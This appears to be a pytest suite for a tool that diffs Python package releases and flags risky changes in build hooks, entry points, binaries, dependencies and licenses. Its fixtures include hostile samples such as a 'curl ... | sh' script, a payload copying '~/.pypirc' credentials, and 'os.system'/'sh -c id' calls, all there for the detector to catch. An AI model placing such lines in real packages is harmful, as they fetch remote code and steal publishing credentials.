        "[console_scripts]\ndemo = demo.cli:main\nnot an entry\n",
        [
            "entry_points.txt unreadable: a line in a section has no '=' "
            "(importlib.metadata, and so pip and pluggy, fail on it)"
        ],
        id="a line without = is told",
    ),
]


@pytest.mark.parametrize(("old_eps", "new_eps", "expected"), ENTRY_POINTS_AS_IMPORTERS_READ)
def test_entry_points_are_read_as_importlib_metadata_reads_them(
    tmp_path: Path, old_eps: str, new_eps: str, expected: list[str]
) -> None:
    """configparser refused a leading line and so hid every entry point (a new ``pip``
    script among them), and read ``;`` as a comment and an indented line as a value's."""
    found = find(tmp_path, {}, {}, "wheel", old_entry_points=old_eps, new_entry_points=new_eps)
    assert found == [
        ("entry-point", "demo-1.1.dist-info/entry_points.txt", detail) for detail in expected
    ]


def test_entry_points_in_pyproject(tmp_path: Path) -> None:
    old = {
        "pyproject.toml": '[project]\nname = "demo"\n[project.scripts]\ndemo = "demo.cli:main"\n'
    }
    new = {
        "pyproject.toml": '[project]\nname = "demo"\n[project.scripts]\ndemo = "demo.cli:main"\n'
        '[project.gui-scripts]\ndemo-gui = "demo.gui:main"\n'
        '[project.entry-points."pytest11"]\ndemo = "demo.plugin"\n',
        # The same script declared again in egg-info is one entry, not two.
        "demo.egg-info/entry_points.txt": "[gui_scripts]\ndemo-gui = demo.gui:main\n",
    }
    assert find(tmp_path, old, new) == [
        ("entry-point", "pyproject.toml", "GUI script added: demo-gui = demo.gui:main"),
        ("entry-point", "pyproject.toml", "entry point [pytest11] added: demo = demo.plugin"),
    ]


def test_wheel_data_script_added(tmp_path: Path) -> None:
    old = {"demo-1.0.data/scripts/old-tool": "#!python\nprint(1)\n"}
    new = {
        "demo-1.1.data/scripts/old-tool": "#!python\nprint(2)\n",
        "demo-1.1.data/scripts/demo-tool": "#!python\nprint(3)\n",
    }
    assert find(tmp_path, old, new, "wheel") == [
        (
            "entry-point",
            "demo-1.1.data/scripts/demo-tool",
            "script added: demo-tool (installed on PATH)",
        )
    ]


def test_wheel_script_on_path_changed(tmp_path: Path) -> None:
    """A script in ``.data/data/bin`` is on PATH as one in ``.data/scripts``: a Python one is
    read by the exec check, a changed shell script is told (its commands are not read)."""
    old = {
        "demo-1.0.data/data/bin/demo-py": "#!/usr/bin/env python3\nprint(1)\n",
        "demo-1.0.data/scripts/demo-run": "#!/bin/sh\necho hello\n",
        "demo-1.0.data/scripts/demo-same": "#!/bin/sh\necho same\n",
    }
    new = {
        "demo-1.1.data/data/bin/demo-py": "#!/usr/bin/env python3\nimport os\nos.system('id')\n",
        "demo-1.1.data/scripts/demo-run": "#!/bin/sh\ncurl -s http://x.invalid/a | sh\n",
        "demo-1.1.data/scripts/demo-same": "#!/bin/sh\necho same\n",
    }
    assert find(tmp_path, old, new, "wheel") == [
        (
            "entry-point",
            "demo-1.1.data/scripts/demo-run",
            "script changed: demo-run (installed on PATH, not Python)",
        ),
        ("exec", "demo-1.1.data/data/bin/demo-py", "os.system() runs a command (line 3)"),
    ]


def test_build_files_in_an_sdist(tmp_path: Path) -> None:
    old = {
        "setup.py": "from setuptools import setup\nsetup(version='1.0')\n",
        "setup.cfg": "[options]\nzip_safe = False\n[flake8]\nignore = E1\n"
        "[metadata]\nlicense_file = LICENSE\nversion = attr: demo.VERSION\n",
        "pyproject.toml": '[build-system]\nrequires = ["setuptools>=61", "wheel"]\n'
        'build-backend = "setuptools.build_meta"\n',
        "src/CMakeLists.txt": "add_library(x x.c)\n",
        "tests/CMakeLists.txt": "add_test(t)\n",
    }
    new = {
        "setup.py": "from setuptools import setup\nimport os\nsetup(version='1.1')\n",
        "setup.cfg": "[options]\nzip_safe = True\n[flake8]\nignore = E2\n"
        "[metadata]\nlicense_files = LICENSE\nversion = attr: demo.__version__\n",
        "pyproject.toml": '[build-system]\nrequires = ["setuptools>=64", "wheel", "cython"]\n'
        'build-backend = "backend"\nbackend-path = ["_build"]\n',
        "_build/backend.py": "def build_wheel(*a): pass\n",
        "src/CMakeLists.txt": "add_library(x x.c y.c)\n",
        "tests/CMakeLists.txt": "add_test(t)\n",
        "meson.build": "project('demo')\n",
        "hatch_build.py": "print('hook')\n",
    }
    assert find(tmp_path, old, new) == [
        ("build", "_build/backend.py", "in-tree build backend added"),
        ("build", "hatch_build.py", "build hook added"),
        ("build", "meson.build", "Meson build file added"),
        ("build", "pyproject.toml", "backend-path: (none) → _build"),
        ("build", "pyproject.toml", "build backend: setuptools.build_meta → backend"),
        ("build", "pyproject.toml", "build requirement added: cython"),
        ("build", "pyproject.toml", "build requirement changed: setuptools>=61 → setuptools>=64"),
        ("build", "setup.cfg", "setuptools configuration changed: [metadata], [options]"),
        (
            "build",
            "setup.cfg",
            "version read by importing changed: demo.VERSION → demo.__version__",
        ),
        ("build", "setup.py", "build script changed"),
        ("build", "src/CMakeLists.txt", "CMake build file changed"),
    ]


def test_setup_cfg_metadata_is_build_code_only_where_the_build_reads_the_tree(
    tmp_path: Path,
) -> None:
    """six 1.16 -> 1.17 changed license_file to license_files: data that the metadata
    section shows, not build code; ``version = attr: ...`` reads the package."""
    old = {"setup.cfg": "[metadata]\nname = demo\nlicense_file = LICENSE\nurl = a\n"}
    new = {"setup.cfg": "[metadata]\nname = demo\nlicense_files = LICENSE\nurl = b\n"}
    assert find(tmp_path / "data", old, new) == []
    new["setup.cfg"] += "long_description = file: README.rst\n"
    assert find(tmp_path / "file", old, new) == [
        ("build", "setup.cfg", "setuptools configuration changed: [metadata]"),
    ]


def test_build_requirements_of_one_name_with_other_markers_are_distinct(tmp_path: Path) -> None:
    def pyproject(requires: str) -> dict[str, str]:
        return {"pyproject.toml": f"[build-system]\nrequires = [{requires}]\n"}

    old = pyproject('"numpy>=1.25; os_name==\'nt\'", "setuptools"')
    new = pyproject(
        "\"numpy>=1.26; os_name=='nt'\", \"numpy>=2.0; os_name!='nt'\","
        ' "setuptools", "setuptools", "cython; extra == \'a\'", "cython; extra == \'b\'"'
    )
    assert find(tmp_path, old, new) == [
        ("build", "pyproject.toml", 'build requirement added: cython; extra == "a"'),
        ("build", "pyproject.toml", 'build requirement added: cython; extra == "b"'),
        ("build", "pyproject.toml", 'build requirement added: numpy>=2.0; os_name != "nt"'),
        (
            "build",
            "pyproject.toml",
            'build requirement changed: numpy>=1.25; os_name == "nt" → numpy>=1.26; os_name == "nt"',
        ),
    ]


def test_in_tree_backend_lists_only_code_the_build_imports(tmp_path: Path) -> None:
    pyproject = '[build-system]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'
    bytecode = b"\xcb\r\r\n" + b"\x00" * 12 + b"\xe3compiled"
    old = {"pyproject.toml": pyproject, "_build/backend.py": "x = 1\n", "_build/README": "a\n"}
    new: Tree = {
        "pyproject.toml": pyproject,
        "_build/backend.py": "x = 2\n",
        "_build/backend.pyc": bytecode,
        "_build/__pycache__/backend.cpython-312.pyc": bytecode,
        "_build/helper.pyc": bytecode,
        "_build/tools/smoketest.py": "y = 1\n",
        "_build/README": "b\n",
        "_build/data.json": "{}\n",
    }
    assert find(tmp_path, old, new) == [
        ("build", "_build/__pycache__/backend.cpython-312.pyc", CACHED_BUILD_BYTECODE),
        ("build", "_build/backend.py", "in-tree build backend changed"),
        ("build", "_build/helper.pyc", "build bytecode without source in backend-path added"),
        # PyYAML 6.0.2: a module beside the backend, which the build can import.
        ("build", "_build/tools/smoketest.py", "build code in backend-path added"),
    ]


CACHED_BUILD_BYTECODE = (
    "bytecode in __pycache__ beside its source: a build importing the source may run it "
    "instead, and it is not checked"
)


def test_an_sdists_cached_bytecode_beside_its_source_is_build_code(tmp_path: Path) -> None:
    """The sdist's tar header sets the source's mtime, which the bytecode's header names:
    a build importing the source (``setup.py``'s ``import helper``) may run the bytecode."""
    bytecode = b"\xcb\r\r\n" + b"\x00" * 12 + b"\xe3compiled"
    old: Tree = {"setup.py": "import helper\n", "helper.py": "x = 1\n", "pkg/m.py": ""}
    new: Tree = {
        **old,
        "__pycache__/helper.cpython-312.pyc": bytecode,
        "pkg/__pycache__/m.cpython-311.opt-1.pyc": bytecode,
        # No source beside it: Python does not import from __pycache__ without one.
        "pkg/__pycache__/gone.cpython-312.pyc": bytecode,
        # Tests are no build code.
        "tests/test_x.py": "",
        "tests/__pycache__/test_x.cpython-312.pyc": bytecode,
        # With no source, Python imports the bytecode itself; beside one, the source.
        "tools.pyc": bytecode,
        "pkg/m.pyc": bytecode,
    }
    assert find(tmp_path, old, new) == [
        ("build", "__pycache__/helper.cpython-312.pyc", CACHED_BUILD_BYTECODE),
        ("build", "pkg/__pycache__/m.cpython-311.opt-1.pyc", CACHED_BUILD_BYTECODE),
        (
            "build",
            "tools.pyc",
            "bytecode without its source: a build importing it runs it, and it is not checked",
        ),
    ]
    # Unchanged, it is nothing new; many are counted in one entry.
    many = {**old, **{f"pkg/m{n}.py": "" for n in range(7)}}
    cached = {f"pkg/__pycache__/m{n}.cpython-312.pyc": bytecode for n in range(7)}
    assert find(tmp_path / "same", {**many, **cached}, {**many, **cached}) == []
    assert find(tmp_path / "many", many, {**many, **cached}) == [
        (
            "build",
            None,
            f"{CACHED_BUILD_BYTECODE}: 7 files (pkg/__pycache__/m0.cpython-312.pyc, "
            "pkg/__pycache__/m1.cpython-312.pyc, pkg/__pycache__/m2.cpython-312.pyc, "
            "pkg/__pycache__/m3.cpython-312.pyc, pkg/__pycache__/m4.cpython-312.pyc, "
            "and 2 more)",
        )
    ]
    # A wheel is built already: its cache is the exec check's.
    assert all(entry[0] != "build" for entry in find(tmp_path / "wheel", old, new, "wheel"))


def test_backend_path_dot_names_the_backend_module(tmp_path: Path) -> None:
    pyproject = '[build-system]\nbuild-backend = "my_backend.api"\nbackend-path = ["."]\n'
    old = {"pyproject.toml": pyproject, "my_backend/api.py": "x = 1\n", "other.py": "a = 1\n"}
    new = {"pyproject.toml": pyproject, "my_backend/api.py": "x = 2\n", "other.py": "a = 2\n"}
    assert find(tmp_path, old, new) == [
        ("build", "my_backend/api.py", "in-tree build backend changed")
    ]


def test_build_hooks_named_in_pyproject(tmp_path: Path) -> None:
    pyproject = (
        "[tool.hatch.build.hooks.custom]\npath = 'tools/hook.py'\n"
        "[tool.hatch.metadata.hooks.custom]\n"
        "[tool.poetry.build]\nscript = 'make_ext.py'\n"
    )
    old = {"pyproject.toml": pyproject, "tools/hook.py": "a = 1\n", "tools/other.py": "b = 1\n"}
    new = {
        "pyproject.toml": pyproject,
        "tools/hook.py": "a = 2\n",
        "tools/other.py": "b = 2\n",
        "hatch_build.py": "c = 1\n",
        "make_ext.py": "d = 1\n",
    }
    assert find(tmp_path, old, new) == [
        ("build", "hatch_build.py", "build hook added"),
        ("build", "make_ext.py", "build hook added"),
        ("build", "tools/hook.py", "build hook changed"),
    ]


BUILD_PYPROJECT = (
    '[build-system]\nrequires = ["setuptools>=64"]\nbuild-backend = "setuptools.build_meta"\n'
    '[project]\nname = "demo"\ndynamic = ["version"]\n'
)
PAYLOAD = "import os, shutil\nshutil.copy(os.path.expanduser('~/.pypirc'), '/tmp/.x')\n"


def test_a_command_class_pyproject_names_is_code_the_build_imports(tmp_path: Path) -> None:
    old = {"pyproject.toml": BUILD_PYPROJECT, "demo/__init__.py": "VALUE = 1\n"}
    cmdclass = '[tool.setuptools.cmdclass]\nbuild_py = "_custom_build.BuildPy"\n'
    new = {**old, "pyproject.toml": BUILD_PYPROJECT + cmdclass, "_custom_build.py": PAYLOAD}
    assert find(tmp_path, old, new) == [
        ("build", "_custom_build.py", "code the build imports added"),
        (
            "build",
            "pyproject.toml",
            "command class build_py added: _custom_build.BuildPy",
        ),
    ]


def test_a_module_a_dynamic_attr_reads_is_code_the_build_imports(tmp_path: Path) -> None:
    by_file = '[tool.setuptools.dynamic]\nversion = {file = "VERSION"}\n'
    by_attr = '[tool.setuptools.dynamic]\nversion = {attr = "demo._version.get"}\n'
    old = {"pyproject.toml": BUILD_PYPROJECT + by_file, "VERSION": "1.0\n", "src/demo/x.py": ""}
    new = {
        **old,
        "pyproject.toml": BUILD_PYPROJECT + by_attr,
        "src/demo/_version.py": PAYLOAD + "get = '.'.join(['1', '1'])\n",
    }
    assert find(tmp_path, old, new) == [
        (
            "build",
            "pyproject.toml",
            "version read by importing added: demo._version.get",
        ),
        ("build", "src/demo/_version.py", "code the build imports added"),
    ]


def test_what_setup_cfg_names_is_code_the_build_imports(tmp_path: Path) -> None:
    setup_cfg = (
        "[metadata]\nname = demo\nversion = attr: demo.__version__\n"
        "[options]\npackage_dir =\n    =lib\n"
        "cmdclass =\n    build_py = tools.build.BuildPy\n"
    )
    old = {
        "setup.cfg": setup_cfg,
        "lib/demo/__init__.py": "__version__ = '1.0'\n",
        "lib/demo/other.py": "a = 1\n",
        "tools/build.py": "a = 1\n",
    }
    new = {
        **old,
        "lib/demo/__init__.py": PAYLOAD + "__version__ = str(1.1)\n",
        "lib/demo/other.py": "a = 2\n",
        "tools/build.py": PAYLOAD,
    }
    assert find(tmp_path, old, new) == [
        ("build", "lib/demo/__init__.py", "code the build imports changed"),
        ("build", "tools/build.py", "code the build imports changed"),
    ]


def test_a_reference_moved_to_pyproject_and_a_version_tuple_are_no_build_change(
    tmp_path: Path,
) -> None:
    # Django 5.1 moved `version = attr: django.__version__` to pyproject.toml and
    # bumped VERSION = (5, 0, 8, "final", 0) in the module the build imports (here
    # demo 1.0 -> 1.1).
    by_attr = '[tool.setuptools.dynamic]\nversion = {attr = "demo.__version__"}\n'
    init = 'VERSION = ({0}, "final", 0)\n__version__ = ".".join(map(str, VERSION[:3]))\n'
    old = {
        "pyproject.toml": BUILD_PYPROJECT,
        "setup.cfg": "[metadata]\nname = demo\nversion = attr: demo.__version__\n",
        "demo/__init__.py": init.format("1, 0"),
    }
    new = {
        "pyproject.toml": BUILD_PYPROJECT + by_attr,
        "setup.cfg": "[metadata]\nname = demo\n",
        "demo/__init__.py": init.format("1, 1, 0"),
    }
    assert find(tmp_path, old, new) == [
        ("build", "setup.cfg", "setuptools configuration changed: [metadata]")
    ]


def test_a_hatch_hook_plugin_added_is_told_its_options_are_not(tmp_path: Path) -> None:
    hooks = "[tool.hatch.metadata.hooks.fancy-pypi-readme]\ncontent-type = '{0}'\n"
    old = {"pyproject.toml": hooks.format("text/markdown")}
    new = {"pyproject.toml": hooks.format("text/x-rst")}
    assert find(tmp_path / "options", old, new) == []
    vcs = "[tool.hatch.build.targets.wheel.hooks.vcs]\nversion-file = 'demo/_v.py'\n"
    new = {"pyproject.toml": hooks.format("text/markdown") + vcs}
    assert find(tmp_path / "plugin", old, new) == [
        ("build", "pyproject.toml", "hatch wheel build hook vcs added: a plugin")
    ]


def test_a_pdm_custom_hook_is_code_the_build_imports(tmp_path: Path) -> None:
    pyproject = '[build-system]\nrequires = ["pdm-backend"]\nbuild-backend = "pdm.backend"\n'
    hook = '[tool.pdm.build]\ncustom-hook = "./scripts/hook.py"\n'
    old = {"pyproject.toml": pyproject, "demo/__init__.py": ""}
    new = {**old, "pyproject.toml": pyproject + hook, "scripts/hook.py": PAYLOAD}
    assert find(tmp_path, old, new) == [
        ("build", "pyproject.toml", "pdm custom-hook added: ./scripts/hook.py"),
        ("build", "scripts/hook.py", "code the build imports added"),
    ]


def test_a_local_module_setup_py_imports_is_code_the_build_imports(tmp_path: Path) -> None:
    setup = "from setuptools import setup\nfrom _build_helpers import cmdclass\nsetup(cmdclass=cmdclass)\n"
    old = {"setup.py": setup, "_build_helpers.py": "cmdclass = {}\n", "demo/helpers.py": ""}
    new = {
        **old,
        "_build_helpers.py": PAYLOAD + "cmdclass = {}\n",
        "demo/helpers.py": "a = 1\n",
    }
    assert find(tmp_path, old, new) == [
        ("build", "_build_helpers.py", "code the build imports changed")
    ]


@pytest.mark.parametrize(
    ("setup", "helper"),
    [
        ("from _build.cmds import cmdclass", "_build/cmds.py"),  # a package of the top
        ("from _helpers import cmdclass", "src/_helpers.py"),
        ("import sys\nsys.path.insert(0, 'tools')\nimport buildhelp", "tools/buildhelp.py"),
        (
            "import os\nexec(open(os.path.join('demo', '_version.py')).read())",
            "demo/_version.py",
        ),
    ],
    ids=["package", "src", "sys.path", "exec"],
)
def test_code_setup_py_imports_or_runs_is_code_the_build_imports(
    tmp_path: Path, setup: str, helper: str
) -> None:
    script = f"from setuptools import setup\n{setup}\nsetup()\n"
    old = {"setup.py": script, helper: "cmdclass = {}\n", "_build/__init__.py": ""}
    new = {**old, helper: PAYLOAD + "cmdclass = {}\n"}
    assert find(tmp_path, old, new) == [("build", helper, "code the build imports changed")]


def test_a_describing_name_setup_py_also_uses_is_what_the_build_does(tmp_path: Path) -> None:
    setup = (
        "import subprocess\nfrom setuptools import setup\nURL = '{url}'\n"
        "subprocess.run(['git', 'clone', URL, 'vendor'])\nsetup(name='demo', url=URL)\n"
    )
    old = {"setup.py": setup.format(url="https://example.org/data.git")}
    new = {"setup.py": setup.format(url="https://example.com/payload.git")}
    assert find(tmp_path, old, new)[0] == ("build", "setup.py", "build script changed")


def test_an_attr_value_written_as_a_literal_is_read_without_importing(tmp_path: Path) -> None:
    """aiohttp 3.10: ``version = attr: aiohttp.__version__`` with ``__version__ =
    "3.10.0"`` in the module: setuptools reads the literal from the text."""
    setup_cfg = "[metadata]\nname = demo\nversion = attr: demo.__version__\n"
    old = {"setup.cfg": setup_cfg, "demo/__init__.py": "__version__ = '1.0'\nimport json\n"}
    new = {**old, "demo/__init__.py": "__version__ = '1.1'\nimport json, os\n"}
    assert find(tmp_path, old, new) == []


def test_a_module_of_values_the_build_imports_runs_nothing(tmp_path: Path) -> None:
    """requests 2.32 moved __version__.py under src/ and its setup.py execs it: its new
    __build__ number is a value, nothing the build runs."""
    setup = "exec(open('{0}').read(), about)\nsetup(**about)\n"
    version = "__version__ = '{0}'\n__build__ = {1}\n"
    old = {
        "setup.py": setup.format("demo/__version__.py"),
        "demo/__version__.py": version.format("1.0", "0x010000"),
    }
    new = {
        "setup.py": setup.format("src/demo/__version__.py"),
        "src/demo/__version__.py": version.format("1.1", "0x010100"),
    }
    assert [entry for entry in find(tmp_path, old, new) if entry[0] == "build"] == [
        ("build", "setup.py", "build script changed")
    ]


def test_a_hatch_hook_of_one_build_target_is_a_build_hook(tmp_path: Path) -> None:
    pyproject = "[tool.hatch.build.targets.wheel.hooks.custom]\npath = 'scripts/wheel_hook.py'\n"
    old = {"pyproject.toml": pyproject, "scripts/wheel_hook.py": "a = 1\n"}
    new = {**old, "scripts/wheel_hook.py": PAYLOAD}
    assert find(tmp_path, old, new) == [("build", "scripts/wheel_hook.py", "build hook changed")]


def test_build_file_changes_of_comments_only_are_not_notable(tmp_path: Path) -> None:
    old = {"setup.py": "from setuptools import setup\nsetup()  # plain\n"}
    new = {"setup.py": "from setuptools import setup\n\n\nsetup()  # still plain\n"}
    assert find(tmp_path, old, new) == []


SETUP = """from setuptools import setup
CLASSIFIERS = [{classifiers}]
setup(
    name="demo",
    classifiers=CLASSIFIERS,
    description={description},
    project_urls={{"Source": "https://example.org/{source}"}},
    install_requires=[{requires}],
)
"""


@pytest.mark.parametrize(
    ("edit", "notable"),
    [
        ({"classifiers": "'A', 'B'"}, False),  # certifi 2024.12.14 added a classifier
        ({"description": "'Other words'"}, False),
        ({"source": "new"}, False),
        ({"requires": "'six'"}, True),  # what the build asks for is not description
        ({"description": "open('README').read()"}, True),  # computed: code
        ({"classifiers": "'A', *extra()"}, True),
    ],
    ids=["classifier", "description", "url", "requirement", "computed", "spread"],
)
def test_setup_py_changes_to_what_only_describes_the_project_are_not_notable(
    tmp_path: Path, edit: dict[str, str], notable: bool
) -> None:
    values = {"classifiers": "'A'", "description": "'Words'", "source": "old", "requires": ""}
    old = {"setup.py": SETUP.format(**values)}
    new = {"setup.py": SETUP.format(**{**values, **edit})}
    expected = [("build", "setup.py", "build script changed")] if notable else []
    assert find(tmp_path, old, new) == expected


def test_hostile_build_files_are_noted_not_crashed_on(tmp_path: Path) -> None:
    deep = "a = " + "[" * 50_000 + "]" * 50_000 + "\n"
    old = {"pyproject.toml": "[build-system]\n", "setup.py": "x = 1\n"}
    new = {"pyproject.toml": deep, "setup.py": "x = " + "(" * 50_000 + ")" * 50_000 + "\n"}
    assert find(tmp_path, old, new) == [
        (
            "build",
            "pyproject.toml",
            "pyproject.toml does not parse (nested too deeply): [build-system] not checked",
        ),
        ("build", "setup.py", "build script changed"),
    ]


def test_a_wheel_has_no_build_code(tmp_path: Path) -> None:
    assert find(tmp_path, {"setup.py": "a = 1\n"}, {"setup.py": "a = 2\n"}, "wheel") == []


def test_pyproject_that_does_not_parse(tmp_path: Path) -> None:
    old = {"pyproject.toml": "[build-system]\nrequires = []\n"}
    new = {"pyproject.toml": "[build-system\nrequires = []\n"}
    [(kind, path, detail)] = find(tmp_path, old, new)
    assert (kind, path) == ("build", "pyproject.toml")
    assert detail.startswith("pyproject.toml does not parse (")
    assert detail.endswith("): [build-system] not checked")


@pytest.mark.parametrize("dist", DISTS)
def test_native_binaries(tmp_path: Path, dist: str) -> None:
    old = {"demo/_core.so": ELF, "demo/same.so": ELF, "demo/data.bin": b"\x00\x01"}
    new = {
        "demo/_core.so": ELF + b"\x01",
        "demo/same.so": ELF,
        "demo/data.bin": b"\x00\x02",
        "demo/helper.exe": PE,
        "demo/lib.dylib": b"stub\n",
        "demo/tool": MACHO,
        "demo/libs/libz.so.1.2.13": b"\x00" * 10,
    }
    assert find(tmp_path, old, new, dist) == [
        ("binary", "demo/_core.so", "native binary changed (ELF, 164 → 165 bytes)"),
        ("binary", "demo/helper.exe", "new native binary (PE, 128 bytes)"),
        ("binary", "demo/lib.dylib", "new native binary (.dylib file, 5 bytes)"),
        ("binary", "demo/libs/libz.so.1.2.13", "new native binary (.so.1.2.13 file, 10 bytes)"),
        ("binary", "demo/tool", "new native binary (Mach-O, 64 bytes)"),
    ]


def test_files_over_the_per_file_limit_are_told_unread(tmp_path: Path) -> None:
    """An ELF named engine.bin that code loads with ctypes cannot be told from data unread."""
    big, same = ELF + b"\x00" * 200, b"\x00" * 300
    old: Tree = {"demo/engine.bin": big, "demo/big.py": "x = 1\n" * 50, "demo/same.dat": same}
    new: Tree = {
        "demo/engine.bin": big + b"\x01",
        "demo/big.py": "x = 2\n" * 50,
        "demo/same.dat": same,
        "demo/lib.so": big,
        "demo/small.txt": "a\n",
    }
    (tmp_path / "o").mkdir()
    (tmp_path / "n").mkdir()
    paths = (
        make_wheel(tmp_path / "o", "demo", "1.0", old),
        make_wheel(tmp_path / "n", "demo", "1.1", new),
    )
    store: dict[str, bytes] = {}
    limits = Limits(max_file_bytes=250)
    old_archive, new_archive = (read_archive(path, limits, store) for path in paths)
    found = [(n.kind, n.path, n.detail) for n in compare(old_archive, new_archive).notable]
    assert found == [
        (
            "binary",
            "demo/engine.bin",
            "file changed over the per-file size limit (365 bytes): not read, not checked",
        ),
        ("binary", "demo/lib.so", "new native binary (.so file, 364 bytes)"),
        ("exec", "demo/big.py", "not checked: over the per-file size limit"),
    ]


def test_native_build_inputs_and_static_libraries(tmp_path: Path) -> None:
    old = {"demo/__init__.py": "", "cmake/Helpers.cmake": "set(A 1)\n", "Cargo.toml": "[package]\n"}
    new: Tree = {
        "demo/__init__.py": "",
        "cmake/Helpers.cmake": "execute_process(COMMAND sh -c id)\n",
        "tests/cmake/Check.cmake": "set(B 1)\n",
        "Cargo.toml": "[package]\n[dependencies]\nx = { git = 'https://example.com/x' }\n",
        ".cargo/config.toml": "[build]\nrustc-wrapper = 'tools/wrap.sh'\n",
        "subprojects/zlib.wrap": "[wrap-file]\nsource_url = https://example.com/z.tgz\n",
        "lib/libfast.a": b"!<arch>\n" + b"\x00" * 8,
    }
    assert find(tmp_path, old, new) == [
        ("build", ".cargo/config.toml", "Cargo configuration added"),
        ("build", "Cargo.toml", "Cargo manifest changed"),
        ("build", "cmake/Helpers.cmake", "CMake module changed"),
        ("build", "subprojects/zlib.wrap", "Meson subproject wrap added"),
        ("binary", "lib/libfast.a", "new native binary (ar archive, 16 bytes)"),
    ]


def test_a_moved_binary_is_not_a_new_one(tmp_path: Path) -> None:
    assert find(tmp_path, {"a/_core.so": ELF}, {"b/_core.so": ELF}) == []


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (ELF, "ELF"),
        (PE, "PE"),
        (MACHO, "Mach-O"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\x00" * 8, "Mach-O"),
        # A Java class file: same magic, then its version (52 = Java 8).
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 8, None),
        (b"MZ just text that starts like a PE file" + b" " * 40, None),
        (b"#!/bin/sh\n", None),
        (b"", None),
    ],
)
def test_native_format(data: bytes, expected: str | None) -> None:
    assert native_format(data) == expected


@pytest.mark.parametrize("dist", DISTS)
def test_dependencies_python_and_license_metadata(tmp_path: Path, dist: str) -> None:
    old = (
        "Requires-Python: >=3.8",
        "License: MIT",
        "Classifier: License :: OSI Approved :: MIT License",
        "Requires-Dist: attrs>=20",
        "Requires-Dist: click",
        "Requires-Dist: gone",
        "Requires-Dist: urllib3; python_version < '3.8'",
    )
    new = (
        "Requires-Python: >=3.9",
        "License-Expression: Apache-2.0",
        "Classifier: License :: OSI Approved :: Apache Software License",
        "Requires-Dist: attrs>=22",
        "Requires-Dist: click[colour]",
        "Requires-Dist: requests>=2",
        "Requires-Dist: helper @ https://example.org/helper-1.0.tar.gz",
        "Requires-Dist: urllib3; python_version < '3.9'",
    )
    assert find(tmp_path, {}, {}, dist, old, new) == [
        (
            "dependency",
            None,
            "direct URL reference added: helper @ https://example.org/helper-1.0.tar.gz",
        ),
        ("dependency", None, "requirement added: requests>=2"),
        ("dependency", None, "requirement changed (extras): click → click[colour]"),
        (
            "dependency",
            None,
            'requirement changed (marker): urllib3; python_version < "3.8" → urllib3; python_version < "3.9"',
        ),
        ("dependency", None, "requirement changed (specifier): attrs>=20 → attrs>=22"),
        ("python", None, "Requires-Python: >=3.8 → >=3.9"),
        ("license", None, "License-Expression: (none) → Apache-2.0 (was License: MIT)"),
        (
            "license",
            None,
            "license classifier added: License :: OSI Approved :: Apache Software License",
        ),
    ]


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        # PEP 639: the same license said as an expression, the classifier dropped.
        (
            ("License: MIT", "Classifier: License :: OSI Approved :: MIT License"),
            ("License-Expression: MIT",),
            [],
        ),
        (("License: UNKNOWN",), (), []),
        (("License: Copyright 2023 Demo",), ("License: Copyright 2024 Demo",), []),
        (("License: MIT",), ("License: BSD",), ["License: MIT → BSD"]),
        # requests 2.31.0 -> 2.32.3: one license spelled another way.
        (("License: Apache 2.0",), ("License: Apache-2.0",), []),
        (("License: Apache 2.0",), ("License-Expression: apache_2.0",), []),
        (("License: GPL-2.0",), ("License: GPL-2.0+",), ["License: GPL-2.0 → GPL-2.0+"]),
        (
            ("License-Expression: MIT",),
            ("License-Expression: MIT OR Apache-2.0",),
            ["License-Expression: MIT → MIT OR Apache-2.0"],
        ),
        (
            ("Classifier: License :: OSI Approved :: MIT License",),
            (),
            ["license classifier removed: License :: OSI Approved :: MIT License"],
        ),
        # httpx 0.27.2 -> 0.28.0: back from an expression to License, the same license.
        (("License-Expression: BSD-3-Clause",), ("License: BSD-3-Clause",), []),
        (
            ("License-Expression: BSD-3-Clause",),
            ("License: MIT",),
            ["License-Expression: BSD-3-Clause → (none)", "License: (none) → MIT"],
        ),
    ],
)
def test_license_fields(
    tmp_path: Path, old: tuple[str, ...], new: tuple[str, ...], expected: list[str]
) -> None:
    assert [detail for _, _, detail in find(tmp_path, {}, {}, "sdist", old, new)] == expected


def test_requirement_turned_into_a_url(tmp_path: Path) -> None:
    found = find(
        tmp_path,
        {},
        {},
        "sdist",
        ("Requires-Dist: helper>=1",),
        ("Requires-Dist: helper @ file:///tmp/h",),
    )
    assert found == [
        (
            "dependency",
            None,
            "direct URL reference (specifier, url): helper>=1 → helper @ file:///tmp/h",
        )
    ]


def test_a_requirement_an_extra_asked_for_that_every_install_gets_now(tmp_path: Path) -> None:
    """isort 5.13: ``pip-api; extra == "requirements-deprecated-finder"`` became ``pip-api``."""
    found = find(
        tmp_path,
        {},
        {},
        "sdist",
        ('Requires-Dist: pip-api; extra == "finder"', 'Requires-Dist: tool; extra == "x"'),
        ("Requires-Dist: pip-api", 'Requires-Dist: tool; python_version >= "3.9"'),
    )
    assert found == [
        (
            "dependency",
            None,
            'requirement now installed without an extra (marker): pip-api; extra == "finder"'
            " → pip-api",
        ),
        (
            "dependency",
            None,
            'requirement now installed without an extra (marker): tool; extra == "x"'
            ' → tool; python_version >= "3.9"',
        ),
    ]


def test_requirements_from_requires_txt(tmp_path: Path) -> None:
    old = {"demo.egg-info/requires.txt": "attrs\n"}
    new = {"demo.egg-info/requires.txt": "attrs\n\n[socks]\npysocks\n"}
    assert find(tmp_path, old, new) == [
        ("dependency", None, 'requirement added: pysocks; extra == "socks"')
    ]


@pytest.mark.parametrize("dist", DISTS)
def test_license_files(tmp_path: Path, dist: str) -> None:
    old = {"LICENSE": "MIT\n", "COPYING.md": "GPL\n", "LICENSES/BSD.txt": "BSD\n", "NOTICE": "x\n"}
    new = {
        "LICENSE": "Apache\n",
        "LICENSES/BSD.txt": "BSD\n",
        "LICENSES/MIT.txt": "MIT\n",
        "NOTICE": "y\n",
        "licensed.py": "x = 1\n",
        "license.py": "x = 1\n",
    }
    assert find(tmp_path, old, new, dist) == [
        ("license", "COPYING.md", "license file removed"),
        ("license", "LICENSE", "license file changed"),
        ("license", "LICENSES/MIT.txt", "license file added"),
    ]


def test_only_the_releases_own_license_files_count(tmp_path: Path) -> None:
    old = {
        "LICENSE.python": "Copyright (c) 2001, 2002, 2003 PSF\n",
        "AUTHORS": "Ann\n",
